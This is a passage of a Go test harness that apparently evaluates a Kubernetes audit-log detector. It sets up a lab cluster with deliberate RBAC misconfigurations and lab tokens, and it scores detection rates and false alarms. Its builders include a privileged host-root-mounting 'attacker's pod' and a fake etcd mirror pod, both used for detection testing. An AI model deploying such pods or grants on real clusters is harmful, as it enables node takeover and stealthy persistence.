// fail later, as exec and proxy do without a kubelet).
func h4Want(err error, want, what string) error {
	switch want {
	case "ok":
		if err != nil {
			return fmt.Errorf("%s: %v", what, err)
		}
	case "forbidden":
		if !apierrors.IsForbidden(err) {
			return fmt.Errorf("%s: want 403, got %v", what, err)
		}
	case "authorized":
		if apierrors.IsForbidden(err) || apierrors.IsUnauthorized(err) {
			return fmt.Errorf("%s: want authorized, got %v", what, err)
		}
	default:
		return fmt.Errorf("%s: unknown expectation %q", what, want)
	}
	return nil
}

// h4WantMsg is h4Want whose error must also mention msg.
func h4WantMsg(err error, want, msg, what string) error {
	if e := h4Want(err, want, what); e != nil {
		return e
	}
	if err == nil || !strings.Contains(err.Error(), msg) {
		return fmt.Errorf("%s: want an error mentioning %q, got %v", what, msg, err)
	}
	return nil
}

// h4WaitAllowed waits (as the unrecorded setup identity) until the RBAC
// authorizer's informers allow user verb on group/resource in ns.
func h4WaitAllowed(ctx context.Context, t *testing.T, su kubernetes.Interface, user, ns, group, resource, name, verb string) {
	t.Helper()
	eventually(t, 30*time.Second, user+" may "+verb+" "+resource, func() (bool, string) {
		r, err := su.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User: user, Groups: []string{"system:serviceaccounts", "system:authenticated"},
			ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: ns, Group: group, Resource: resource, Name: name, Verb: verb}}}, metav1.CreateOptions{})
		if err != nil {
			return false, err.Error()
		}
		return r.Status.Allowed, r.Status.Reason
	})
}

// h4Summary is the JSON written to $APIGUARD_HELDOUT_OUT.
type h4Summary struct {
	AttackSteps  int              `json:"attackSteps"`
	Detected     int              `json:"detected"`
	Rate         float64          `json:"rate"`
	BenignHigh   int              `json:"benignHigh"`
	Missed       []string         `json:"missed"`
	BenignAlerts []h4BenignAlerts `json:"benignAlerts"`
	Detections   []h4Detection    `json:"detections"`
}

type h4BenignAlerts struct {
	Step     string `json:"step"`
	Rule     string `json:"rule"`
	Severity string `json:"severity"`
	Count    int    `json:"count"`
}

type h4Detection struct {
	Step  string   `json:"step"`
	Rules []string `json:"rules"`
}

func h4HighOrCritical(sev string) bool {
	return strings.EqualFold(sev, "high") || strings.EqualFold(sev, "critical")
}

// h4Report logs the table and the two numbers, and writes the summary.
func h4Report(t *testing.T, steps []h4Step, byStep map[string]map[string][]alertLine, perStep map[string]int) {
	t.Helper()
	var sum h4Summary
	var b strings.Builder
	fmt.Fprintf(&b, "\n%-46s %-4s %s\n", "ATTACK STEP (technique)", "reqs", "RULES or MISSED")
	for _, s := range steps {
		if !s.attack {
			continue
		}
		sum.AttackSteps++
		rules := h4Rules(byStep[s.name])
		if len(rules) == 0 {
			sum.Missed = append(sum.Missed, s.name)
			fmt.Fprintf(&b, "%-46s %-4d MISSED   [%s]\n", s.name, perStep[s.name], s.technique)
			continue
		}
		sum.Detected++
		sum.Detections = append(sum.Detections, h4Detection{Step: s.name, Rules: rules})
		fmt.Fprintf(&b, "%-46s %-4d %s   [%s]\n", s.name, perStep[s.name], strings.Join(rules, ","), s.technique)
	}
	fmt.Fprintf(&b, "\n%-46s %-4s %s\n", "BENIGN STEP", "reqs", "ALERTS (rule:severity xN)")
	benignSteps := 0
	for _, s := range steps {
		if s.attack {
			continue
		}
		var parts []string
		for _, rule := range h4Rules(byStep[s.name]) {
			as := byStep[s.name][rule]
			sevs := map[string]int{}
			for _, a := range as {
				sevs[a.Severity]++
			}
			for sev, n := range sevs {
				sum.BenignAlerts = append(sum.BenignAlerts, h4BenignAlerts{Step: s.name, Rule: rule, Severity: sev, Count: n})
				if h4HighOrCritical(sev) {
					sum.BenignHigh += n
				}
				parts = append(parts, fmt.Sprintf("%s:%s x%d", rule, sev, n))
			}
		}
		if len(parts) == 0 {
			parts = []string{"none"}
		} else {
			benignSteps++
		}
		sort.Strings(parts)
		fmt.Fprintf(&b, "%-46s %-4d %s\n", s.name, perStep[s.name], strings.Join(parts, ", "))
	}
	sort.Slice(sum.BenignAlerts, func(i, j int) bool {
		a, b := sum.BenignAlerts[i], sum.BenignAlerts[j]
		return a.Step+a.Rule+a.Severity < b.Step+b.Rule+b.Severity
	})
	outside := 0
	for _, as := range byStep[""] {
		outside += len(as)
	}
	if sum.AttackSteps > 0 {
		sum.Rate = float64(sum.Detected) / float64(sum.AttackSteps)
	}
	fmt.Fprintf(&b, "\ndetection rate: %d/%d = %.1f%%\n", sum.Detected, sum.AttackSteps, 100*sum.Rate)
	fmt.Fprintf(&b, "high or critical alerts on benign steps: %d (benign steps with any alert: %d)\n", sum.BenignHigh, benignSteps)
	fmt.Fprintf(&b, "alerts outside the script (setup and controllers, not scored): %d in %v\n", outside, h4Rules(byStep[""]))
	t.Log(b.String())
	if p := os.Getenv("APIGUARD_HELDOUT_OUT"); p != "" {
		if sum.Missed == nil {
			sum.Missed = []string{}
		}
		if sum.BenignAlerts == nil {
			sum.BenignAlerts = []h4BenignAlerts{}
		}
		data, err := json.MarshalIndent(sum, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, append(data, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func h4Rules(m map[string][]alertLine) []string {
	var out []string
	for r := range m {
		out = append(out, r)
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------
// Setup (as the super-admin, not recorded): the cluster the day starts with.

func h4Setup(ctx context.Context, t *testing.T, c *lab.Cluster, su kubernetes.Interface) h4Identities {
	t.Helper()
	must := func(err error, what string) {
		t.Helper()
		if err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatalf("setup %s: %v", what, err)
		}
	}
	privileged := map[string]string{"pod-security.kubernetes.io/enforce": "privileged"}
	for _, ns := range []struct {
		name   string
		labels map[string]string
	}{
		{"media", map[string]string{"team": "media"}}, {"shop", map[string]string{"team": "shop"}}, {"payments", map[string]string{"team": "payments"}},
		{"monitoring", privileged}, {"security", privileged}, {"ci", nil}, {"argocd", nil}, {"cert-manager", nil}, {"external-secrets", nil},
		{"databases", nil}, {"velero", nil}, {"vault", nil}, {"platform", nil}, {"gatekeeper-system", nil},
	} {
		_, err := su.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns.name, Labels: ns.labels}}, metav1.CreateOptions{})
		must(err, "namespace "+ns.name)
	}
	// The ServiceAccount admission plugin needs each namespace's default SA.
	for _, ns := range []string{"media", "shop", "payments", "kube-system", "monitoring", "security", "gatekeeper-system", "ci", "argocd", "cert-manager", "external-secrets", "databases", "velero", "vault", "platform"} {
		eventually(t, 60*time.Second, "default ServiceAccount in "+ns, func() (bool, string) {
			_, err := su.CoreV1().ServiceAccounts(ns).Get(ctx, "default", metav1.GetOptions{})
			return err == nil, fmt.Sprint(err)
		})
	}

	// ServiceAccounts, each with the pod it runs in (tokens are bound to it).
	id := h4Identities{tokens: map[string]string{}, paymentsPod: "payments-api-6b7c9d-wq4zt"}
	workloads := []struct{ ns, sa, pod, image string }{
		{"media", "thumbnailer", "thumbnailer-7c9f8d-x2k4p", "registry.example.com/media/thumbnailer:3.1.4"},
		{"media", "media-ops", "", ""},
		{"ci", "helm", "runner-helm-5d8f7", "registry.gitlab.com/gitlab-org/gitlab-runner:v17.5.0"},
		{"ci", "deployer", "runner-deploy-9k2l4", "registry.gitlab.com/gitlab-org/gitlab-runner:v17.5.0"},
		{"argocd", "argocd-application-controller", "argocd-application-controller-0", "quay.io/argoproj/argocd:v2.13.1"},
		{"monitoring", "prometheus-k8s", "prometheus-k8s-0", "quay.io/prometheus/prometheus:v2.54.1"},
		{"monitoring", "kube-state-metrics", "kube-state-metrics-6d4b8-q8z7x", "quay.io/brancz/kube-rbac-proxy:v0.18.1"},
		{"cert-manager", "cert-manager", "cert-manager-7f9c5-h2j4k", "quay.io/jetstack/cert-manager-controller:v1.16.1"},
		{"cert-manager", "cert-manager-cainjector", "cert-manager-cainjector-5c8d-p9r2s", "quay.io/jetstack/cert-manager-cainjector:v1.16.1"},
		{"external-secrets", "external-secrets", "external-secrets-6b8f-m3n5b", "ghcr.io/external-secrets/external-secrets:v0.10.4"},
		{"vault", "vault", "vault-0", "hashicorp/vault:1.17.6"},
		{"databases", "db-operator", "cnpg-controller-manager-7d9f-t6y8u", "ghcr.io/cloudnative-pg/cloudnative-pg:1.24.1"},
		{"velero", "velero", "velero-5f6d7-v2w3x", "velero/velero:v1.14.1"},
		{"platform", "platform-ci", "runner-platform-0", "registry.gitlab.com/gitlab-org/gitlab-runner:v17.5.0"},
		{"shop", "storefront-api", "storefront-api-8c7b-k4l5m", "registry.example.com/shop/storefront:2.0.1"},
		{"payments", "payments-api", "", ""},
	}
	for _, w := range workloads {
		_, err := su.CoreV1().ServiceAccounts(w.ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: h4Meta(w.ns, w.sa, nil)}, metav1.CreateOptions{})
		must(err, "sa "+w.sa)
		if w.pod == "" {
			continue
		}
		p := h4PlainPod(w.ns, w.pod, w.sa, w.image, map[string]string{"app": w.sa})
		_, err = su.CoreV1().Pods(w.ns).Create(ctx, p, metav1.CreateOptions{})
		must(err, "pod "+w.pod)
	}

	// Objects the day starts with.
	_, err := su.CoreV1().Secrets("media").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "media", Name: "media-ops-token",
		Annotations: map[string]string{corev1.ServiceAccountNameKey: "media-ops"}}, Type: corev1.SecretTypeServiceAccountToken}, metav1.CreateOptions{})
	must(err, "media-ops-token")
	_, err = su.CoreV1().Secrets("media").Create(ctx, &corev1.Secret{ObjectMeta: h4Meta("media", "s3-credentials", nil),
		Data: map[string][]byte{"AWS_ACCESS_KEY_ID": []byte("AKIAEXAMPLE"), "AWS_SECRET_ACCESS_KEY": []byte("example")}}, metav1.CreateOptions{})
	must(err, "s3-credentials")
	_, err = su.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{ObjectMeta: h4Meta("payments", "db-credentials", nil),
		Data: map[string][]byte{"username": []byte("payments"), "password": []byte("initial")}}, metav1.CreateOptions{})
	must(err, "db-credentials")
	// The payments pod runs on the (only) node and uses the DB Secret.
	pp := h4PlainPod("payments", id.paymentsPod, "payments-api", "registry.example.com/payments/api:5.2.0", map[string]string{"app": "payments-api"})
	pp.Spec.NodeName = c.NodeName
	pp.Spec.Tolerations = []corev1.Toleration{{Key: "node-role.kubernetes.io/control-plane", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}}
	pp.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "DB_PASSWORD", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
		LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}, Key: "password"}}}}
	_, err = su.CoreV1().Pods("payments").Create(ctx, pp, metav1.CreateOptions{})
	must(err, "payments pod")
	rr := h4PlainPod("shop", "report-runner-28911", "default", "registry.example.com/shop/reports:1.0.3", map[string]string{"app": "report-runner"})
	rr.Spec.NodeName = c.NodeName
	_, err = su.CoreV1().Pods("shop").Create(ctx, rr, metav1.CreateOptions{})
	must(err, "report-runner pod")
	_, err = su.AppsV1().Deployments("payments").Create(ctx, h4Deployment("payments", "payments-gateway", "registry.example.com/payments/gateway:5.2.0", 1), metav1.CreateOptions{})
	must(err, "payments-gateway")
	_, err = su.AppsV1().Deployments("kube-system").Create(ctx, h4Deployment("kube-system", "coredns", "registry.k8s.io/coredns/coredns:v1.11.3", 2), metav1.CreateOptions{})
	must(err, "coredns")
	_, err = su.AppsV1().Deployments("gatekeeper-system").Create(ctx, h4Deployment("gatekeeper-system", "gatekeeper-controller-manager", "openpolicyagent/gatekeeper:v3.17.1", 1), metav1.CreateOptions{})
	must(err, "gatekeeper")
	_, err = su.AppsV1().DaemonSets("security").Create(ctx, h4HostDaemonSet("security", "runtime-guard", "runtime-guard", "registry.example.com/security/runtime-guard:0.9.3", true), metav1.CreateOptions{})
	must(err, "runtime-guard")
	_, err = su.AppsV1().DaemonSets("monitoring").Create(ctx, h4HostDaemonSet("monitoring", "node-exporter", "node-exporter", "quay.io/prometheus/node-exporter:v1.8.1", false), metav1.CreateOptions{})
	must(err, "node-exporter")
	// Webhooks without a backend in the lab: their rules and selectors keep
	// the server from calling them for the scenario's requests.
	for _, v := range []struct {
		name, ns, svc, hook, label string
		rule                       admissionregistrationv1.Rule
	}{
		{"gatekeeper-validating-webhook-configuration", "gatekeeper-system", "gatekeeper-webhook-service", "check-ignore-label.gatekeeper.sh", "admission.gatekeeper.sh/enabled",
			admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"*"}, Resources: []string{"namespaces"}}},
		{"cert-manager-webhook", "cert-manager", "cert-manager-webhook", "webhook.cert-manager.io", "cert-manager.io/webhook-enabled",
			admissionregistrationv1.Rule{APIGroups: []string{"cert-manager.io", "acme.cert-manager.io"}, APIVersions: []string{"v1"}, Resources: []string{"*/*"}}},
	} {
		crt, _ := h4SelfSigned(t, v.svc)
		_, err := su.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
			ObjectMeta: metav1.ObjectMeta{Name: v.name, Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"}},
			Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: v.hook,
				ClientConfig:  admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: v.ns, Name: v.svc, Path: h4Ptr("/validate")}, CABundle: crt},
				Rules:         []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update}, Rule: v.rule}},
				FailurePolicy: h4Ptr(admissionregistrationv1.Ignore), SideEffects: h4Ptr(admissionregistrationv1.SideEffectClassNone), AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: h4Ptr(int32(3)),
				NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{v.label: "true"}}}}}, metav1.CreateOptions{})
		must(err, "webhook "+v.name)
	}

	// RBAC: the day's permissions, misconfigurations included.
	rule := func(groups, resources, verbs []string, names ...string) rbacv1.PolicyRule {
		return rbacv1.PolicyRule{APIGroups: groups, Resources: resources, Verbs: verbs, ResourceNames: names}
	}
	core, read := []string{""}, []string{"get", "list", "watch"}
	clusterRole := func(name string, rules ...rbacv1.PolicyRule) {
		_, err := su.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}, metav1.CreateOptions{})
		must(err, "clusterrole "+name)
	}
	clusterBind := func(name, role string, subjects ...rbacv1.Subject) {
		_, err := su.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}, Subjects: subjects}, metav1.CreateOptions{})
		must(err, "clusterrolebinding "+name)
	}
	bind := func(ns, name, kind, role string, subjects ...rbacv1.Subject) {
		_, err := su.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: h4Meta(ns, name, nil),
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: kind, Name: role}, Subjects: subjects}, metav1.CreateOptions{})
		must(err, "rolebinding "+ns+"/"+name)
	}
	nsRole := func(ns, name string, rules ...rbacv1.PolicyRule) {
		_, err := su.RbacV1().Roles(ns).Create(ctx, &rbacv1.Role{ObjectMeta: h4Meta(ns, name, nil), Rules: rules}, metav1.CreateOptions{})
		must(err, "role "+ns+"/"+name)
	}
	// The web app: reads pods and its config, spawns transcoding Jobs, and
	// (misconfiguration) may list every Secret of its namespace.
	nsRole("media", "thumbnailer", rule(core, []string{"pods", "configmaps"}, read), rule(core, []string{"secrets"}, []string{"get", "list"}),
		rule([]string{"batch"}, []string{"jobs"}, []string{"create", "get", "list", "delete"}))
	bind("media", "thumbnailer", "Role", "thumbnailer", h4SA("media", "thumbnailer"))
	// media-ops, the media team's tooling identity with a legacy token:
	// admin in media, cluster-wide reads, namespace label edits "for network
	// policies" and nodes/proxy "for kubelet stats" (misconfigurations).
	clusterRole("media-ops", rule(core, []string{"nodes", "pods", "namespaces", "services", "endpoints", "events"}, read),
		rule(core, []string{"nodes/proxy"}, []string{"get", "create"}), rule(core, []string{"namespaces"}, []string{"patch", "update"}))
	clusterBind("media-ops", "media-ops", h4SA("media", "media-ops"))
	bind("media", "media-ops-admin", "ClusterRole", "admin", h4SA("media", "media-ops"))
	// CI, GitOps, operators, staff.
	bind("shop", "ci-deployer-edit", "ClusterRole", "edit", h4SA("ci", "deployer"))
	bind("shop", "ci-helm-admin", "ClusterRole", "admin", h4SA("ci", "helm"))
	clusterBind("argocd-application-controller", "cluster-admin", h4SA("argocd", "argocd-application-controller"))
	clusterBind("velero", "cluster-admin", h4SA("velero", "velero"))
	clusterBind("platform-ci", "cluster-admin", h4SA("platform", "platform-ci"))
	clusterRole("prometheus-k8s", rule(core, []string{"nodes", "nodes/metrics", "nodes/proxy", "services", "endpoints", "pods"}, read),
		rule([]string{"discovery.k8s.io"}, []string{"endpointslices"}, read), rbacv1.PolicyRule{NonResourceURLs: []string{"/metrics"}, Verbs: []string{"get"}})
	clusterBind("prometheus-k8s", "prometheus-k8s", h4SA("monitoring", "prometheus-k8s"))
	clusterRole("kube-state-metrics-rbac-proxy", rule([]string{"authentication.k8s.io"}, []string{"tokenreviews"}, []string{"create"}),
		rule([]string{"authorization.k8s.io"}, []string{"subjectaccessreviews"}, []string{"create"}))
	clusterBind("kube-state-metrics-rbac-proxy", "kube-state-metrics-rbac-proxy", h4SA("monitoring", "kube-state-metrics"))
	clusterBind("vault-auth-delegator", "system:auth-delegator", h4SA("vault", "vault"))
	clusterRole("cert-manager-controller", rule(core, []string{"secrets"}, []string{"get", "list", "watch", "create", "update", "patch", "delete"}),
		rule(core, []string{"events"}, []string{"create", "patch"}))
	clusterBind("cert-manager-controller", "cert-manager-controller", h4SA("cert-manager", "cert-manager"))
	clusterRole("cert-manager-cainjector", rule(core, []string{"secrets"}, read),
		rule([]string{"admissionregistration.k8s.io"}, []string{"validatingwebhookconfigurations", "mutatingwebhookconfigurations"}, []string{"get", "list", "watch", "update", "patch"}),
		rule([]string{"apiregistration.k8s.io"}, []string{"apiservices"}, []string{"get", "list", "watch", "update", "patch"}))
	clusterBind("cert-manager-cainjector", "cert-manager-cainjector", h4SA("cert-manager", "cert-manager-cainjector"))
	clusterRole("external-secrets-controller", rule(core, []string{"secrets"}, []string{"get", "list", "watch", "create", "update", "patch", "delete"}),
		rule(core, []string{"events"}, []string{"create", "patch"}))
	clusterBind("external-secrets-controller", "external-secrets-controller", h4SA("external-secrets", "external-secrets"))
	clusterRole("db-operator", rule(core, []string{"secrets", "services", "pods"}, []string{"get", "list", "watch", "create", "update", "patch"}),
		rule([]string{"apps"}, []string{"statefulsets"}, []string{"get", "list", "watch", "create", "update", "patch"}),
		rule([]string{"policy"}, []string{"poddisruptionbudgets"}, []string{"get", "list", "watch", "create", "update", "patch"}))
	clusterBind("db-operator", "db-operator", h4SA("databases", "db-operator"))
	clusterRole("sre-node-ops", rule(core, []string{"nodes"}, []string{"get", "list", "watch", "patch", "update"}), rule(core, []string{"pods"}, read),
		rule(core, []string{"pods/eviction"}, []string{"create"}), rule([]string{"apps"}, []string{"daemonsets"}, read))
	clusterBind("sre-node-ops", "sre-node-ops", h4Group("sre"))
	clusterBind("sec-auditors-view", "view", h4Group("sec-auditors"))
	clusterRole("rbac-reader", rule([]string{"rbac.authorization.k8s.io"}, []string{"roles", "rolebindings", "clusterroles", "clusterrolebindings"}, read))
	clusterBind("sec-auditors-rbac-reader", "rbac-reader", h4Group("sec-auditors"))
	bind("shop", "team-shop-view", "ClusterRole", "view", h4Group("team-shop"))
	nsRole("payments", "payments-api", rule(core, []string{"secrets"}, []string{"get"}, "db-credentials"))
	bind("payments", "payments-api", "Role", "payments-api", h4SA("payments", "payments-api"))

	// Tokens: bound to their pods, like projected tokens; the HPA
	// controller's as kube-controller-manager requests it.
	mint := func(ns, sa, pod string) string {
		t.Helper()
		req := &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h4Ptr(int64(3607))}}
		if pod != "" {
			p, err := su.CoreV1().Pods(ns).Get(ctx, pod, metav1.GetOptions{})
			must(err, "get pod "+pod)
			req.Spec.BoundObjectRef = &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: pod, UID: p.UID}
		}
		tr, err := su.CoreV1().ServiceAccounts(ns).CreateToken(ctx, sa, req, metav1.CreateOptions{})
		must(err, "token "+ns+"/"+sa)
		return tr.Status.Token
	}
	for _, w := range workloads {
		if w.pod != "" {
			id.tokens[w.ns+"/"+w.sa] = mint(w.ns, w.sa, w.pod)
		}
	}
	eventually(t, 60*time.Second, "ServiceAccount kube-system/horizontal-pod-autoscaler", func() (bool, string) {
		_, err := su.CoreV1().ServiceAccounts("kube-system").Get(ctx, "horizontal-pod-autoscaler", metav1.GetOptions{})
		return err == nil, fmt.Sprint(err)
	})
	id.tokens["kube-system/horizontal-pod-autoscaler"] = mint("kube-system", "horizontal-pod-autoscaler", "")
	eventually(t, 60*time.Second, "the legacy token of media-ops", func() (bool, string) {
		s, err := su.CoreV1().Secrets("media").Get(ctx, "media-ops-token", metav1.GetOptions{})
		if err != nil {
			return false, err.Error()
		}
		id.mediaOpsToken = string(s.Data["token"])
		return id.mediaOpsToken != "", "no token yet"
	})
	// kubeadm init's join token (24 h) and its binding to the node
	// bootstrapper role (kubeadm:kubelet-bootstrap).
	_, err = su.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "bootstrap-token-7m4q2x"},
		Type: corev1.SecretTypeBootstrapToken, StringData: map[string]string{"token-id": "7m4q2x", "token-secret": "h8k3n5p9r2t6v1w4",
			"expiration": time.Now().Add(24 * time.Hour).UTC().Format(time.RFC3339), "usage-bootstrap-authentication": "true", "usage-bootstrap-signing": "true",
			"auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token", "description": "The default bootstrap token generated by 'kubeadm init'."}}, metav1.CreateOptions{})
	must(err, "bootstrap token")
	clusterBind("kubeadm:kubelet-bootstrap", "system:node-bootstrapper", h4Group("system:bootstrappers:kubeadm:default-node-token"))
	id.bootstrapToken = "7m4q2x.h8k3n5p9r2t6v1w4"
	bsCfg := lab.RESTConfig(t, c.TokenKubeconfig(t, "bootstrap-check", id.bootstrapToken))
	bs, err := kubernetes.NewForConfig(bsCfg)
	must(err, "bootstrap client")
	eventually(t, 30*time.Second, "the bootstrap token authenticates", func() (bool, string) {
		_, err := bs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
		return err == nil, fmt.Sprint(err)
	})
	// The helm release Secrets the platform's earlier installs left.
	for _, r := range []struct{ ns, name string }{{"gatekeeper-system", "gatekeeper"}, {"monitoring", "node-exporter"}} {
		_, err := su.CoreV1().Secrets(r.ns).Create(ctx, h4HelmSecret(r.ns, r.name, 1, "deployed"), metav1.CreateOptions{})
		must(err, "helm release "+r.name)
	}
	// RBAC is served from informers: wait for the last grants to count.
	h4WaitAllowed(ctx, t, su, "system:serviceaccount:payments:payments-api", "payments", "", "secrets", "db-credentials", "get")
	h4WaitAllowed(ctx, t, su, "system:serviceaccount:media:media-ops", "", "", "namespaces", "media", "patch")
	return id
}

// ---------------------------------------------------------------------------
// Object builders.

func h4Ptr[T any](v T) *T { return &v }

func h4Qty(s string) resource.Quantity { return resource.MustParse(s) }

func h4Meta(ns, name string, labels map[string]string) metav1.ObjectMeta {
	return metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels}
}

func h4SA(ns, name string) rbacv1.Subject {
	return rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: name}
}

func h4Group(name string) rbacv1.Subject {
	return rbacv1.Subject{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: name}
}

func h4Apply(manager string) metav1.PatchOptions {
	return metav1.PatchOptions{FieldManager: manager, Force: h4Ptr(true)}
}

// h4PlainPod is an ordinary workload pod (PodSecurity baseline).
func h4PlainPod(ns, name, sa, image string, labels map[string]string) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: h4Meta(ns, name, labels), Spec: corev1.PodSpec{ServiceAccountName: sa,
		Containers: []corev1.Container{{Name: "app", Image: image, Ports: []corev1.ContainerPort{{ContainerPort: 8080}}}}}}
}

func h4PodTemplate(app, image string) corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": app}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image,
			SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: h4Ptr(false), RunAsNonRoot: h4Ptr(true),
				Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}}}}}}
}

func h4Deployment(ns, name, image string, replicas int32) *appsv1.Deployment {
	return &appsv1.Deployment{ObjectMeta: h4Meta(ns, name, map[string]string{"app": name}),
		Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}}, Template: h4PodTemplate(name, image)}}
}

func h4StatefulSet(ns, name string) *appsv1.StatefulSet {
	return &appsv1.StatefulSet{ObjectMeta: h4Meta(ns, name, map[string]string{"cnpg.io/cluster": name}),
		Spec: appsv1.StatefulSetSpec{Replicas: h4Ptr(int32(1)), ServiceName: name + "-rw", Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}},
			Template: h4PodTemplate(name, "ghcr.io/cloudnative-pg/postgresql:16.4")}}
}

func h4Job(ns, name string) *batchv1.Job {
	tpl := h4PodTemplate(name, "registry.example.com/shop/tools:1.43.0")
	tpl.Spec.RestartPolicy = corev1.RestartPolicyNever
	tpl.Spec.Containers[0].Command = []string{"/app/migrate", "--up"}
	return &batchv1.Job{ObjectMeta: h4Meta(ns, name, nil), Spec: batchv1.JobSpec{BackoffLimit: h4Ptr(int32(1)), Template: tpl}}
}

func h4Service(ns, name string, port int32) *corev1.Service {
	return &corev1.Service{ObjectMeta: h4Meta(ns, name, map[string]string{"app": name}),
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": name}, Ports: []corev1.ServicePort{{Port: port, TargetPort: intstr.FromInt32(port)}}}}
}

func h4Event(ns, obj, kind, reason, msg, component string) *corev1.Event {
	now := metav1.Now()
	return &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: ns, GenerateName: obj + "."},
		InvolvedObject: corev1.ObjectReference{Kind: kind, Namespace: ns, Name: obj, APIVersion: "cert-manager.io/v1"},
		Reason:         reason, Message: msg, Type: corev1.EventTypeNormal, Source: corev1.EventSource{Component: component},
		FirstTimestamp: now, LastTimestamp: now, Count: 1}
}

// h4ApplyBody is the server-side apply body of a Deployment or Service.
func h4ApplyBody(kind, ns, name string) []byte {
	if kind == "Service" {
		return []byte(fmt.Sprintf(`{"apiVersion":"v1","kind":"Service","metadata":{"name":%q,"namespace":%q,"labels":{"app.kubernetes.io/instance":"shop-cart"}},`+
			`"spec":{"selector":{"app":%q},"ports":[{"port":8080,"targetPort":8080}]}}`, name, ns, name))
	}
	d := h4Deployment(ns, name, "registry.example.com/shop/cart:2.7.1", 2)
	d.TypeMeta = metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"}
	d.Labels["app.kubernetes.io/instance"] = "shop-cart"
	b, _ := json.Marshal(d)
	return b
}

// h4BadPod is an attacker's pod: hostPath / (and with everything, also
// privileged and every host namespace, pinned to node).
func h4BadPod(ns, name, node string, everything bool) *corev1.Pod {
	p := &corev1.Pod{ObjectMeta: h4Meta(ns, name, map[string]string{"app": "thumbnailer"}), Spec: corev1.PodSpec{
		AutomountServiceAccountToken: h4Ptr(false),
		Containers: []corev1.Container{{Name: "cache", Image: "docker.io/library/alpine:3.20", Command: []string{"sleep", "infinity"},
			VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
		Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}
	if everything {
		p.Spec.NodeName = node
		p.Spec.HostPID, p.Spec.HostNetwork, p.Spec.HostIPC = true, true, true
		p.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
		p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: h4Ptr(true)}
	}
	return p
}

// h4MirrorPod is the mirror pod of the attacker's static pod manifest.
func h4MirrorPod(n *corev1.Node) *corev1.Pod {
	hash := "7f3b9c2e1d0a4b5c6d7e8f9a0b1c2d3e"
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "etcd-" + n.Name,
		Labels: map[string]string{"component": "etcd", "tier": "control-plane"},
		Annotations: map[string]string{lab.ConfigMirrorAnnotationKey: hash, lab.ConfigHashAnnotationKey: hash, lab.ConfigSourceAnnotationKey: "file",
			lab.ConfigSeenAnnotationKey: time.Now().UTC().Format(time.RFC3339Nano)},
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "Node", Name: n.Name, UID: n.UID, Controller: h4Ptr(true)}}},
